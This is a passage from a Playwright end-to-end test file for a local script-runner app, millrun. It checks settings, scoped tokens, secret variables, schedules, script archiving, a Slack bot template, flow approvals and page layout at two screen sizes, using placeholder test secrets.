    if (route.request().method() !== "POST") return route.continue();
    const body = route.request().postDataJSON();
    saves.push(body);
    await route.fulfill({ status: 200, contentType: "application/json", body: JSON.stringify({ ...current, settings: { ...current.settings, start_at_login: body.start_at_login } }) });
  });
  try {
    await page.goto(`${base}/#/settings`);
    const box = page.getByTestId("start-at-login");
    await box.waitFor();
    assert.equal(await box.isEnabled(), true, "millrun serve can start at login");
    await box.check();
    await page.getByTestId("start-at-login-status").filter({ hasText: "on" }).waitFor();
    assert.equal(saves.length, 1, "ticking saved the setting at once");
    assert.equal(saves[0].start_at_login, true);
    await shot("37-settings-start-at-login");
  } finally {
    await page.unroute("**/api/millrun/settings");
  }
  // In the desktop app the address hint names the app's own flag, not serve (which would fail while the app runs).
  const me = await page.evaluate(async () => (await fetch("/api/millrun/whoami")).json());
  await page.route("**/api/millrun/whoami", (route) =>
    route.fulfill({ status: 200, contentType: "application/json", body: JSON.stringify({ ...me, desktop: true }) }));
  try {
    await page.reload();
    const hint = page.getByTestId("listen-address");
    await hint.waitFor();
    assert.ok(!(await hint.textContent()).includes("millrun serve"), await hint.textContent());
    assert.match(await hint.textContent(), /Quit millrun.*millrun --listen/);
  } finally {
    await page.unroute("**/api/millrun/whoami");
    await page.reload();
  }
  // Try it offers the last run's arguments.
  const last = await fetch(syncUrl, { method: "POST", headers: { "Content-Type": "application/json", Authorization: `Bearer ${webhookToken}` }, body: JSON.stringify({ name: "last one" }) });
  assert.equal(last.status, 200);
  await page.goto(syncUrl.replace(/\/api\/w\/local\/jobs\/run_wait_result\/p\//, "/#/scripts/"));
  await page.getByRole("button", { name: "Use the last run's arguments" }).click();
  assert.equal(await page.locator("#body").inputValue(), '{"name":"last one"}');
  assert.match(await page.getByTestId("curl-snippet").textContent(), /"name":"last one"/);
});

test("each window tells millrun which page it shows and whether it has focus, so notifications skip what is in sight", async () => {
  await page.goto(`${base}/#/scripts`);
  const told = page.waitForRequest((r) => r.url().endsWith("/api/millrun/presence") && r.postDataJSON()?.path === "/runs");
  await page.getByRole("link", { name: "Runs", exact: true }).click();
  const report = (await told).postDataJSON();
  assert.equal(report.focused, true);
  assert.ok(report.client.length > 0);
});

test("a new token is scoped to one script by default; full access warns; this browser's session is marked", async () => {
  await page.goto(`${base}/#/tokens`);
  await page.getByTestId("current-session").waitFor();
  const picker = page.getByRole("combobox", { name: "Script or flow the token may run" });
  assert.match(await picker.inputValue(), /^jobs:run:(scripts|flows):u\//, "scoped to a script by default");
  await page.getByRole("textbox", { name: "Label" }).fill("e2e scoped");
  await page.getByRole("button", { name: "Create", exact: true }).click();
  await page.getByTestId("new-token").waitFor();
  const row = page.getByTestId("token-row").filter({ hasText: "e2e scoped" });
  assert.match(await row.textContent(), /jobs:run:/);
  // A failed attempt does not leave the earlier secret on screen.
  await page.getByRole("textbox", { name: "Expires in days" }).fill("-3");
  await page.getByRole("button", { name: "Create", exact: true }).click();
  await page.getByRole("alert").waitFor();
  assert.equal(await page.getByTestId("new-token").count(), 0);
  await page.getByRole("textbox", { name: "Expires in days" }).fill("");
  await page.getByRole("radio", { name: "Full access" }).check();
  await page.getByTestId("full-access-warning").waitFor();
  let asked = "";
  page.once("dialog", (d) => {
    asked = d.message();
    d.dismiss();
  });
  await page.getByTestId("token-row").filter({ has: page.getByTestId("current-session") }).getByRole("button", { name: "Revoke" }).click();
  await page.waitForTimeout(200);
  assert.match(asked, /this browser's session: revoking it logs you out/);
  await shot("26-tokens");
});

test("a script's timeout is set in its editor and kept", async () => {
  await page.goto(syncUrl.replace(/\/api\/w\/local\/jobs\/run_wait_result\/p\//, "/#/scripts/"));
  await page.locator("#timeout").fill("30");
  await page.getByRole("button", { name: "Save", exact: true }).click();
  await page.getByTestId("saved-hash").waitFor();
  await page.reload();
  await page.getByTestId("sync-path-url").waitFor();
  assert.equal(await page.locator("#timeout").inputValue(), "30");
});

test("Requests say why an accepted call failed, filter as you type, and show the answer", async () => {
  await page.goto(`${base}/#/requests`);
  await page.getByTestId("request-row").first().waitFor();
  const res = await fetch(syncUrl, { method: "POST", headers: { "Content-Type": "application/json", Authorization: `Bearer ${webhookToken}` }, body: "{not json" });
  assert.equal(res.status, 400);
  const row = page.getByTestId("request-row").filter({ hasText: "400" }).first();
  await row.waitFor();
  assert.match(await row.textContent(), /JSON/, "the row gives the reason, not just 'passed'");
  await page.getByRole("textbox", { name: "Filter by URL or route" }).fill("no_such_thing_xyz");
  await page.getByText("No requests match the filter.").waitFor(); // applied without Enter
  await page.getByRole("textbox", { name: "Filter by URL or route" }).fill("hello_e2e");
  await row.waitFor();
  await row.click();
  await page.getByTestId("request-response").waitFor();
  assert.match(await page.getByTestId("request-response").textContent(), /JSON/);
  await shot("27-request-400");
});

test("a secret variable is made on the Variables page, never shown again, and kept when edited without a new value", async () => {
  await page.goto(`${base}/#/variables`);
  await page.getByText("No variables yet.").waitFor();
  const prefix = await page.locator("#var-path").inputValue();
  await page.locator("#var-path").fill(prefix + "slack_token");
  await page.locator("#var-value").fill("xoxb-e2e-secret-9");
  await page.locator("#var-desc").fill("the Slack bot's token");
  await page.getByRole("button", { name: "Create" }).click();
  const row = page.getByTestId("variable-row").first();
  await row.waitFor();
  assert.ok(!(await page.content()).includes("xoxb-e2e-secret-9"), "the secret is shown after saving");
  assert.match(await row.textContent(), /secret/);
  await row.getByRole("button", { name: `Copy the Python call for ${prefix}slack_token` }).waitFor();
  await row.getByRole("button", { name: "Edit" }).click();
  await page.locator("#var-desc").fill("Slack bot token (edited)");
  await page.getByRole("button", { name: "Save" }).click();
  await page.getByTestId("variable-row").filter({ hasText: "(edited)" }).waitFor();
  const value = await page.evaluate(async (p) => (await fetch(`/api/w/local/variables/get_value/${p}`)).json(), prefix + "slack_token");
  assert.equal(value, "xoxb-e2e-secret-9", "editing without a value kept the secret");
  await shot("28-variables");
});

test("deleting a script says what points at it, then removes it", async () => {
  await page.goto(`${base}/#/scripts`);
  const link = page.getByRole("link", { name: /slack_cmd$/ });
  await link.click();
  await page.getByTestId("sync-path-url").waitFor();
  let asked = "";
  page.once("dialog", (d) => {
    asked = d.message();
    d.accept();
  });
  await page.getByRole("button", { name: "Delete script" }).click();
  await page.getByRole("heading", { name: "Scripts" }).waitFor();
  assert.match(asked, /Routes that run it will answer 404 until you delete them: \/api\/r\/slack\/slack_cmd/);
  assert.equal(await page.getByRole("link", { name: /slack_cmd$/ }).count(), 0);
});

test("a save after the script changed elsewhere is refused in words; archiving hides it until restored", async () => {
  await page.goto(`${base}/#/scripts/new`);
  const path = page.locator("#path");
  const full = (await path.inputValue()) + "archive_me";
  await path.fill(full);
  await page.locator(".cm-content").waitFor();
  await page.keyboard.press("Control+s");
  await page.getByTestId("sync-path-url").waitFor();
  // Another editor (the wmill CLI, another tab) saves a new version meanwhile.
  const other = await page.evaluate(async (p) => {
    const cur = await (await fetch(`/api/w/local/scripts/get/p/${p}`)).json();
    const r = await fetch("/api/w/local/scripts/create", { method: "POST", headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ path: p, language: cur.language, content: cur.content + "\n# changed elsewhere\n", parent_hash: cur.hash }) });
    return r.status;
  }, full);
  assert.equal(other, 201);
  await page.locator(".cm-content").click();
  await page.keyboard.press("Control+End");
  await page.keyboard.type("\n# my edit\n");
  await page.getByRole("button", { name: "Save", exact: true }).click();
  await page.getByText(/changed elsewhere .* since you opened it/).waitFor();
  await shot("40-save-conflict");

  page.once("dialog", (d) => d.accept()); // leaving the unsaved edit
  await page.reload();
  let asked = "";
  page.once("dialog", (d) => {
    asked = d.message();
    d.accept();
  });
  await page.getByRole("button", { name: "Archive", exact: true }).click();
  await page.getByRole("heading", { name: "Scripts" }).waitFor();
  assert.match(asked, /URLs pinned to a version \(by hash\) keep running/);
  assert.equal(await page.getByRole("link", { name: new RegExp(`${full}$`) }).count(), 0);
  const archived = page.getByTestId("archived-scripts");
  await archived.locator("summary").click();
  await shot("41-archived");
  await archived.getByRole("button", { name: `Restore ${full}` }).click();
  await page.getByRole("link", { name: new RegExp(`${full}$`) }).waitFor();
  assert.equal(await page.getByTestId("archived-scripts").count(), 0);
});

test("a schedule made on a script's page runs every 2 seconds, reads in words and shows its runs", async () => {
  await page.goto(`${base}/#/scripts/new`);
  const path = page.locator("#path");
  const full = (await path.inputValue()) + "ticker";
  await path.fill(full);
  await page.locator(".cm-content").waitFor();
  await page.keyboard.press("Control+s");
  await page.getByTestId("sync-path-url").waitFor();
  await page.getByRole("button", { name: "Add a schedule" }).click();
  await page.getByTestId("schedule-words").waitFor();
  assert.match(await page.getByTestId("schedule-words").textContent(), /every day at 08:00 in /);
  assert.equal(await page.getByTestId("schedule-next").locator("li").count(), 5);
  await page.locator("#sched-cron").fill("0 0 25 * * *");
  await page.getByTestId("schedule-explain-error").waitFor();
  assert.match(await page.getByTestId("schedule-explain-error").textContent(), /above maximum/);
  await page.locator("#sched-cron").fill("*/2 * * * * *");
  await page.getByText("every 2 seconds").waitFor();
  await shot("42-schedule-form");
  // The form at 900 px in dark mode: nothing cut off.
  await page.setViewportSize({ width: 900, height: 700 });
  await page.emulateMedia({ colorScheme: "dark" });
  const cut = await page.evaluate(() => [...document.querySelectorAll("section[aria-label=Schedules] button, section[aria-label=Schedules] input, section[aria-label=Schedules] select")]
    .filter((b) => b.offsetParent !== null && b.getBoundingClientRect().right > window.innerWidth + 0.5).map((b) => b.id || b.textContent.trim()));
  assert.deepEqual(cut, [], "schedule form controls cut off at 900px");
  await shot("42b-schedule-form-900-dark");
  await page.emulateMedia({ colorScheme: "light" });
  await page.setViewportSize({ width: 1280, height: 900 });
  await page.getByRole("button", { name: "Save schedule" }).click();
  await page.getByTestId("schedule").waitFor();
  await page.getByTestId("schedule").getByRole("link", { name: "Its runs" }).click();
  await page.getByTestId("runs-schedule-filter").waitFor();
  const rows = page.locator("tbody tr", { hasText: full });
  await page.waitForFunction((n) => document.querySelectorAll("tbody tr").length >= n, 3, { timeout: 15000 });
  assert.ok(await rows.count() >= 3, "three runs of the schedule");
  assert.match(await rows.first().textContent(), /schedule/);
  await shot("43-schedule-runs");
  await page.goto(`${base}/#/schedules`);
  const row = page.getByTestId("schedule-row").filter({ hasText: full });
  await row.waitFor();
  assert.match(await row.textContent(), /every 2 seconds/);
  await row.getByRole("checkbox").uncheck(); // stop it: other journeys count runs
  await page.waitForFunction(() => document.querySelector('[data-testid="schedule-row"]')?.textContent?.includes("off"));
  await shot("44-schedules");
  // Edited on the script's page: the missed-run policy changes, it stays off.
  await page.goto(`${base}/#/scripts/${full}`);
  await page.getByRole("button", { name: `Edit schedule ${full}_schedule` }).click();
  await page.locator("#sched-missed").selectOption("run_once");
  await page.getByRole("button", { name: "Save schedule" }).click();
  await page.getByTestId("schedule").getByText("missed runs: once on waking").waitFor();
  assert.match(await page.getByTestId("schedule").textContent(), /Off: starts nothing/);
});

test("the Slack bot template reads its token from a secret variable, and says what to do when there is none", async () => {
  await page.goto(`${base}/#/scripts/new`);
  await page.locator(".cm-content").waitFor();
  const prefix = await page.locator("#path").inputValue();
  const user = prefix.split("/")[1];
  await page.locator("#path").fill(prefix + "slack_bot");
  await page.locator("#tpl").selectOption("slack-bot");
  await page.locator(".cm-content", { hasText: `u/${user}/slack_bot_token` }).waitFor();
  await page.keyboard.press("Control+s");
  await page.getByTestId("sync-path-url").waitFor();
  const run = page.locator("section.panel[aria-label=Run]");
  await run.locator("#arg-dry_run").selectOption("true");
  await run.getByRole("button", { name: "Run" }).click();
  await run.getByTestId("run-status").filter({ hasText: "failure" }).waitFor({ timeout: 15000 });
  assert.match(await run.getByTestId("run-result").textContent(), /add your bot token on the Variables page/);
  // The token goes in as a secret on the Variables page.
  await page.goto(`${base}/#/variables`);
  await page.locator("#var-path").fill(`u/${user}/slack_bot_token`);
  await page.locator("#var-value").fill("xoxb-e2e-token-9f3a");
  await page.getByLabel(/Secret: never shown again/).check();
  await page.getByRole("button", { name: "Create", exact: true }).click();
  await page.getByText(`u/${user}/slack_bot_token`).first().waitFor();
  await page.goto(`${base}/#/scripts/${prefix}slack_bot`);
  await run.locator("#arg-dry_run").selectOption("true");
  await run.getByRole("button", { name: "Run" }).click();
  await run.getByTestId("run-status").filter({ hasText: "success" }).waitFor({ timeout: 15000 });
  assert.match(await run.getByTestId("run-result").textContent(), /"token_ends_with": "9f3a"/);
});

test("a flow waiting for an approval shows the wait on its run page, and Approve lets it go on", async () => {
  await page.goto(`${base}/#/runs`);
  // Made through the API with the page's session: the flow editor is not what this checks.
  const id = await page.evaluate(async () => {
    const post = async (path, body) => {
      const r = await fetch(path, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(body) });
      if (!r.ok) throw new Error(`${path}: ${r.status} ${await r.text()}`);
      return (await r.text()).trim();
    };
    const step = (id, content, extra = {}) => ({ id, value: { type: "rawscript", language: "bash", content, input_transforms: {} }, ...extra });
    await post("/api/w/local/flows/create", { path: "u/e2e/approve_e2e", summary: "", description: "", value: { modules: [
      step("ask", "echo asking\n", { suspend: { required_events: 1, timeout: 600 } }), step("act", "echo approved\n")] } });
    return post("/api/w/local/jobs/run/f/u/e2e/approve_e2e", {});
  });
  await page.goto(`${base}/#/runs/${id}`);
  const box = page.getByTestId("approval-box");
  await box.waitFor({ timeout: 15000 });
  assert.match(await box.textContent(), /Step ask waits for 1 approval: 0 of 1 so far, until/);
  await shot("45-approval-wait");
  await box.getByTestId("approve").click();
  await page.getByTestId("detail-status").filter({ hasText: "success" }).waitFor({ timeout: 15000 });
  assert.equal(await page.getByTestId("approval-box").count(), 0);
  assert.match(await page.getByTestId("detail-result").textContent(), /approved/);
});

test("every page at 1280x800 light and 900x700 dark, after all the journeys: nothing wider than the window", async () => {
  const user = (await page.evaluate(async () => (await (await fetch("/api/millrun/whoami")).json()).os_user));
  const failed = await page.evaluate(async (p) => (await (await fetch(`/api/w/local/jobs/list?per_page=1&script_path_exact=${p}`)).json())[0]?.id, `u/${user}/divide`);
  const pages = [["scripts", "#/scripts"], ["script", `#/scripts/u/${user}/hello_e2e`], ["runs", "#/runs"], ["failed-run", `#/runs/${failed}`],
    ["flows", "#/flows"], ["schedules", "#/schedules"], ["requests", "#/requests"], ["variables", "#/variables"], ["tokens", "#/tokens"],
    ["tunnel", "#/tunnel"], ["settings", "#/settings"]];
  for (const [width, height, scheme] of [[1280, 800, "light"], [900, 700, "dark"]]) {
    await page.setViewportSize({ width, height });
    await page.emulateMedia({ colorScheme: scheme });
    for (const [name, hash] of pages) {
      await page.goto(`${base}/${hash}`);
      await page.locator("main h1, main h2").first().waitFor();
      await page.waitForTimeout(300); // live data settles
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
      assert.ok(overflow <= 0, `${name} at ${width}px: ${overflow}px wider than the window`);
      await page.screenshot({ path: `${shots}/50-${width}-${scheme}-${name}.png` });
    }
  }
  await page.emulateMedia({ colorScheme: "light" });
  await page.setViewportSize({ width: 1280, height: 900 });
});
